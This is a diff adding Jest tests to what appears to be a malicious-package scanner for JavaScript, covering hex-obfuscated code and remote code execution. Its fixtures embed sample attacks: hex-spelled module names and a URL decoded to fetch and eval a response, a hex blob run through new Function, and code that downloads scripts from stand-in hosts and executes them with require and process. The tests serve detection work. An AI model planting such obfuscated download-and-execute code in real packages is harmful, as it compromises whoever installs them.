@@ -524,3 +524,60 @@ exports.list = async function list() {
     expect(fileBehaviour(firebase).exfiltration.length).toBeGreaterThan(0);
   });
 });
+
+describe('code hidden as hex', () => {
+  it('module names and a URL spelt as hex, decoded by a helper, and a response evaluated: obfuscated and hiding eval and a URL', () => {
+    const r = scan({
+      'index.js': `function unhex(h) { return h.replace(/../g, (m) => String.fromCharCode(parseInt(m, 16))); }
+const parts = [unhex('72657175697265'), unhex('6178696f73'), unhex('676574'), unhex('68747470733a2f2f6170692e6578616d706c652e636f6d2f7631'), unhex('7468656e')];
+const report = (msg) => require(parts[1])[[parts[2]]](parts[3])[[parts[4]]]((r) => eval(r.data.cookie));
+module.exports = function onError(err) { report(String(err)); };
+report('init');
+`,
+    }, { main: 'index.js' });
+    const hidden = r.findings.find((f) => f.messageId === 'hiddenBehaviour');
+    expect(JSON.stringify(hidden?.data)).toMatch(/hex-encoded text/);
+    expect(['medium', 'high', 'critical']).toContain(r.level);
+  });
+
+  it('a hex blob decoded with Buffer.from(…, "hex") and compiled with new Function is decoded code run', () => {
+    const payload = Buffer.from("fetch('https://' + process.cwd().length + '.probe.example')").toString('hex');
+    const r = scan({ 'index.js': `const blob = '${payload}';\nconst code = Buffer.from(blob, 'hex').toString('utf8');\nconst run = new Function(code);\nrun();\nmodule.exports = {};\n` }, { main: 'index.js' });
+    expect(r.ids).toContain('remote-code/decode');
+  });
+
+  it('hex data that is not text (hashes, colours) is not hidden text', () => {
+    const r = scan({
+      'index.js': `const KNOWN = ['e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', 'ff00ff', '00aa11', 'deadbeef'];
+module.exports = function check(h) { return KNOWN.includes(h) ? eval('1') : null; };
+`,
+    }, { main: 'index.js' });
+    expect(r.ids).not.toContain('obfuscated-code/hiddenBehaviour');
+  });
+});
+
+describe('code a file generates itself is not a downloaded payload (emscripten/embind output)', () => {
+  it('a downloaded name spliced into `new Function("body", "return function " + name + "() {…}")`, or codegen with named parameters, is not remote code', () => {
+    const analysis = analyzeJavaScript(`var xhr = new XMLHttpRequest(); xhr.open('GET', '/names.txt', false); xhr.send(null);
+var name = xhr.responseText;
+var made = new Function('body', 'return function ' + name + '() {\\n    "use strict";    return body.apply(this, arguments);\\n};\\n');
+var caller = new Function('dynCall', 'rawFunction', name);
+var invoker = new Function(['humanName', 'throwBindingError', 'invoker'], name);
+`);
+    if (analysis.mode !== 'ast') throw new Error('not parsed');
+    expect(fileBehaviour(analysis).remoteCode).toEqual([]);
+  });
+
+  it('a downloaded text run whole, or as "return " + text, is still remote code', () => {
+    const r = scan({
+      'index.js': `const https = require('https');
+https.get('https://cdn.example.net/payload.js', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => new Function('require', 'return ' + d)(require)); });
+fetch('https://cdn.example.net/runtime.js').then((r) => r.text()).then((src) => new Function('require', 'process', src)(require, process));
+`,
+    }, { main: 'index.js' });
+    expect(r.ids).toContain('remote-code/download');
+    const analysis = analyzeJavaScript(`fetch('https://cdn.example.net/runtime.js').then((r) => r.text()).then((src) => new Function('require', 'process', src)(require, process));\n`);
+    if (analysis.mode !== 'ast') throw new Error('not parsed');
+    expect(fileBehaviour(analysis).remoteCode).toHaveLength(1);
+  });
+});
